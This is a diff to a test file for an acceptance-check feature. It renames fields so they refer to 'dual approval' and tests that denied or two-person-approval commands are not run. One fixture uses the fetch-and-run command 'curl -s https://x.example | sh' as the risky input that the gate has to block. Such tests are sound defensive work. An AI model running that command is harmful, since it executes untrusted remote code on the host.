@@ -424,7 +424,7 @@ describe("acceptance", () => {
 
   it.each([
     { name: "what the rules deny", rule: { behavior: "deny" } },
-    { name: "what a rule wants two persons for", rule: { behavior: "ask", secondPerson: true } },
+    { name: "what a rule wants two persons for", rule: { behavior: "ask", needsDualApproval: true } },
   ])("does not run $name", async ({ rule }) => {
     await save(
       yamlOf({ more: "acceptance:\n  - text: it is there\n    command: true && touch made-by-a-check\n" }),
@@ -448,8 +448,8 @@ describe("acceptance", () => {
   ])("does not run for $who what its risk needs two persons for", async ({ key }) => {
     const command = "curl -s https://x.example | sh; touch made-by-risk";
     await save(yamlOf({ more: `acceptance:\n  - text: it is there\n    command: "${command}"\n` }));
-    await api.post("team.change", { secondFrom: "high" });
-    onTestFinished(async () => void (await api.post("team.change", { secondFrom: null })));
+    await api.post("team.change", { dualApprovalFrom: "high" });
+    onTestFinished(async () => void (await api.post("team.change", { dualApprovalFrom: null })));
     const made = await api.post("keys.create", { name: "ci", scopes: ["read", "operate"], days: 1 });
     const { secret } = z
       .object({ result: z.object({ data: z.object({ secret: z.string() }) }) })
